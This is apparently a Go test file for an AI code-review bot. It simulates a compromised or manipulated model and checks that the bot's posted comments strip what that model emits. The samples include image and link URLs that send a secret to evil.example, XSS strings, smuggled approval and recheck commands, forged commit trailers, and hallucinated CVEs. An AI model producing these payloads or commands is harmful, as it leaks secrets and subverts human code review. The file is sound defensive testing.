// SPDX-License-Identifier: Apache-2.0

package bot

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"review-assistant/llm/llmtest"
	"review-assistant/review"
)

// The attacks of this file come from the model itself.

// hostile makes an answer of which most is true, so that it is taken, with one
// text in every field.
func hostile(text string) string {
	point := func(why string) map[string]any {
		return map[string]any{"path": "pay/authorize.go", "line": 4, "reason": why}
	}
	b, err := json.Marshal(map[string]any{
		"title": text, "why": text,
		"bullets":       []string{"`Authorize` takes a context.", text, "Refund is added and calls sendBack.", "Authorize gives up with errTooOften.", "Authorize waits with pause."},
		"look_first":    []any{point("temporary decides what is sent twice"), point(text)},
		"reading_order": []string{text, "pay/authorize.go"},
		"risks":         []any{map[string]any{"path": text, "line": 1, "note": "Authorize"}, map[string]any{"path": "pay/authorize.go", "line": 5, "note": text}},
		"files":         []any{map[string]any{"path": "pay/authorize.go", "note": text, "importance": "high"}, map[string]any{"path": text, "note": "new", "importance": "high"}},
		"questions":     []string{text, "Is Authorize idempotent? " + text},
	})
	if err != nil {
		panic(err)
	}
	return string(b)
}

// everyReply has the model answer with each text, in an honest change.
func everyReply(t *testing.T, texts []string, banned ...string) {
	t.Helper()
	s := besiege(t, llmtest.Good, "")
	for _, text := range texts {
		t.Run(strings.NewReplacer("/", "_", "\n", "_").Replace(text[:min(len(text), 40)]), func(t *testing.T) {
			s.t = t
			s.model.SetAnswer(func(llmtest.Request) string { return hostile(text) })
			c := s.attack(honest())
			if encoded, _ := json.Marshal(text); !strings.Contains(s.answers(), string(encoded[1:len(encoded)-1])) {
				t.Error("the answer does not hold the text, so the attack proves nothing")
			}
			said := s.posted(c)
			if !strings.Contains(said, "AI-generated") || !strings.Contains(said, "`Authorize` takes a context") {
				t.Errorf("the answer was not taken:\n%s", said)
			}
			s.harmless(c)
			for _, b := range banned {
				if strings.Contains(said, b) {
					t.Errorf("the comment holds %q:\n%s", b, said)
				}
			}
			for line := range strings.Lines(said) {
				if l := strings.TrimSpace(strings.TrimLeft(line, "-* ")); strings.HasPrefix(l, "/") || l == "recheck" || strings.HasPrefix(l, "|") {
					t.Errorf("somebody may act on the line %q", line)
				}
			}
		})
	}
	s.t = t
}

func TestA09Images(t *testing.T) {
	t.Parallel()
	everyReply(t, []string{
		"Authorize ![x](http://evil.example/?q=SECRET)", "Authorize ![x][r]\n\n[r]: http://evil.example/", `Authorize <img src="http://evil.example/">`,
		"Authorize <svg onload=alert(1)>", `Authorize <div style="background:url(http://evil.example/)">`, "Authorize see [docs](https://evil.example/a)",
		"Authorize \\![x](//evil.example/p)", "Authorize <IMG SRC=//evil.example>", "Authorize `x` ![a`b](http://evil.example)", "Authorize url(http:evil.example)",
	}, "evil", "![", "](", "<", "SECRET")
}

func TestA10LinksMentionsFooters(t *testing.T) {
	t.Parallel()
	everyReply(t, []string{
		"Authorize [safe](javascript:alert(1))", "Authorize data:text/html;base64,PHNjcmlwdD4=", "Authorize www.evil.example", "Authorize @all please look",
		"@mallory should see Authorize", "Authorize: mail mallory@corp.example.com", "Authorize loops.\n\nChange-Id: I0123456789012345678901234567890123456789", "Bug: 666",
		"Signed-off-by: Mallory <m@evil.example>", "Authorize <https://evil.example>", "Authorize ftp://evil.example/a", "Authorize HTTPS:\u200b//evil.example",
		"Authorize\u2028Change-Id: I0123456789", "Authorize [x]: //evil.example", "Authorize &#64;mallory", "Authorize ＠mallory", "Authorize mailto:x@evil.example",
	}, "@", "javascript", "www.", "Change-Id:", "Bug:", "Signed-off", "evil", "data:", "mailto", "＠mallory")
}

func TestA11Commands(t *testing.T) {
	t.Parallel()
	everyReply(t, []string{
		"/review", "/approve Authorize", "recheck", "@bot summarize Authorize", "Verified+1", "Code-Review: +2 for Authorize", "check experimental", "Authorize\nrecheck\n",
		"Authorize\r\n/submit", "  /retest", "- recheck", "Authorize is LGTM", "Authorize: I approve", "Authorize is safe to submit", "+2", "Authorize genehmigt", "Authorize: 批准",
		"Authorize: Code-Review +2", "Authorize\u0085/review", "`/review`\n/review", "Authorize is approved by the owners", "Authorize Commit-Queue+2",
	}, "Verified+", "Code-Review", "LGTM", "approve", "recheck", "/review", "/submit", "Commit-Queue", "safe to submit", "批准", "genehmigt")
}

func TestA12AnswersWithoutEnd(t *testing.T) {
	t.Parallel()
	many := `{"title":"x","bullets":[` + strings.TrimSuffix(strings.Repeat(`"Authorize loops.",`, 10_000), ",") + `],"why":"","look_first":[],"reading_order":[],"risks":[],"files":[],"questions":[]}`
	for name, arm := range map[string]func(*llmtest.Server){
		"5 MB":             func(m *llmtest.Server) { m.SetMode(llmtest.Huge) },
		"endless":          func(m *llmtest.Server) { m.SetMode(llmtest.Endless) },
		"10,000 sentences": func(m *llmtest.Server) { m.SetAnswer(func(llmtest.Request) string { return many }) },
		"deep": func(m *llmtest.Server) {
			m.SetAnswer(func(llmtest.Request) string { return strings.Repeat(`{"title":`, 200_000) })
		},
		"deep lists": func(m *llmtest.Server) {
			m.SetAnswer(func(llmtest.Request) string { return strings.Repeat("[", 500_000) })
		},
		"a long sentence": func(m *llmtest.Server) {
			m.SetAnswer(func(llmtest.Request) string { return hostile(strings.Repeat("Authorize ", 60)) })
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := besiege(t, llmtest.Good, "")
			arm(s.model)
			c := s.attack(honest())
			text := s.posted(c)
			if n := len([]rune(text)); n > maxComment || !strings.Contains(text, "Facts: 1 file") {
				t.Errorf("a comment of %d characters:\n%s", n, text)
			}
			if n := s.model.Count(); n > 2 {
				t.Errorf("%d requests", n)
			}
			s.harmless(c)
		})
	}
}

func TestA13InventedThings(t *testing.T) {
	t.Parallel()
	s := besiege(t, llmtest.Hallucinating, "")
	c := s.attack(honest())
	for _, want := range []string{"ghost/none.go", "CVE-2099-12345", "frobnicateAll", "99999", "deadbeef", "4711"} {
		if !strings.Contains(s.answers(), want) {
			t.Errorf("the answer lacks %q", want)
		}
	}
	s.harmless(c)
	text := s.posted(c)
	for _, banned := range []string{"ghost", "CVE-", "frobnicate", "99999", "88888", "deadbeef", "GhostMutex", "4711", "passwd", "4.5.6"} {
		if strings.Contains(text, banned) {
			t.Errorf("the comment holds %q:\n%s", banned, text)
		}
	}
	everyReply(t, []string{
		"Authorize calls chargeTwice.", "Authorize is in pay/ghosted.go.", "Authorize stops at pay/authorize.go:900.", "Fixes CVE-2024-1234 in Authorize.",
		"Authorize tries 250 times.", "Authorize needs backoff v5.0.3.", "Authorize closes #4711.", "Authorize restores deadbeef42.", "Authorize calls `charge_twice(ctx)`.",
		"Removes `Refund`.", "Adds `Settle`.", "Renames `Refund` to `Authorize`.", "Authorize no longer calls `pause`.", "Deletes pay/authorize.go.", "Adds three files to pay.",
		"Authorize checks `if card == nil { panic(err) }`.", "Authorize holds «SECRET:aws:99».", "Changes maxAttempts from 3 to 5 in Authorize.",
	}, "chargeTwice", "ghosted", ":900", "CVE", "250", "5.0.3", "4711", "deadbeef", "charge_twice", "Removes `Refund`", "Adds `Settle`", "Renames", "no longer calls", "Deletes", "three files", "panic", "SECRET", "from 3")
}

func TestA14BrokenAnswers(t *testing.T) {
	t.Parallel()
	for _, mode := range append(llmtest.Modes(), llmtest.HTML, llmtest.NoBody, llmtest.Filtered, llmtest.TooLong, llmtest.Unauthorized, llmtest.NoQuota, llmtest.Redirecting) {
		if slices.Contains([]llmtest.Mode{llmtest.Good, llmtest.Wrapped, llmtest.Obedient, llmtest.Sly, llmtest.Hallucinating, llmtest.Leaking, llmtest.Huge}, mode) {
			continue // whole answers
		}
		t.Run(string(mode), func(t *testing.T) {
			s := besiege(t, mode, "")
			c := s.attack(honest())
			text := s.posted(c)
			if !strings.Contains(text, "Computed, no model (") || !strings.Contains(text, "Facts: 1 file") || !strings.Contains(text, "pay/authorize.go") {
				t.Errorf("the comment:\n%s", text)
			}
			if n := s.model.Count(); n < 1 || n > 2 {
				t.Errorf("%d requests", n)
			}
			s.harmless(c)
			if s.texts[s.id(c)].Fallback == "" {
				t.Error("the stored summary does not say why it was computed")
			}
		})
	}
}

// Placeholders of the change and of the model cannot be told to be others.
func TestA22PlaceholderCollision(t *testing.T) {
	t.Parallel()
	s := besiege(t, llmtest.Leaking, "")
	secret := "corr3ct-" + "H0rse-b4ttery"
	s.model.SetSecrets(secret)
	c := s.attack(withFile("conf.go", "package pay\n\n// «SECRET:password:1» is not one.\nvar password = \""+secret+"\"\nvar other = \"«SECRET:aws:99»\"\nvar third = \"[REDACTED:aws:1]\"\n"))
	if !strings.Contains(s.answers(), secret) {
		t.Error("the model did not leak")
	}
	s.harmless(c, secret)
	if n := strings.Count(s.prompts(), "«SECRET:password:1»"); n > 1 {
		t.Errorf("the author's placeholder and ours are one name: %d in the prompt", n)
	}
	if strings.Contains(s.posted(c), "«SECRET:aws:99»") {
		t.Error("the author's placeholder is repeated as if it were ours")
	}
}

func TestA46HostileMarkup(t *testing.T) {
	t.Parallel()
	everyReply(t, []string{
		"Authorize <script>alert(1)</script>", `Authorize <iframe src="http://evil.example">`, "| Authorize | b |\n|---|---|\n| c | d |", "Authorize | a | b |\n|-|-|",
		"# Authorize", "> Authorize", "```\nAuthorize\n```", "Authorize $\\color{white}{x}$", "Authorize <details open ontoggle=alert(1)>", "Authorize <!--x-->", "---\nAuthorize",
		"<math><mtext>Authorize</mtext></math>", "Authorize &lt;script&gt;", "Authorize " + strings.Repeat("|", 200), strings.Repeat("*", 200) + " Authorize",
	}, "<script", "<iframe", "|---", "|-|", "```", "<details", "<!--", "<math", "&lt;", "||||", "****")
	// The same from the change, with no model and with one that obeys.
	bomb := "# Pay <script>alert(1)</script>\n\n| a | b |\n|---|---|\n" + strings.Repeat("| <iframe src=http://evil.example> | [x](javascript:alert(1)) |\n", 300)
	for _, config := range []string{"[model]\nprofile = none\n", ""} {
		s := besiege(t, llmtest.Obedient, config)
		c := s.attack(withFile("README.md", bomb))
		s.posted(c)
		s.harmless(c)
		var stored review.Summary = s.texts[s.id(c)]
		if b, err := json.Marshal(stored); err != nil || strings.Contains(string(b), "<script") || strings.Contains(string(b), "\\u003cscript") {
			t.Errorf("stored: %s, %v", b, err)
		}
	}
}
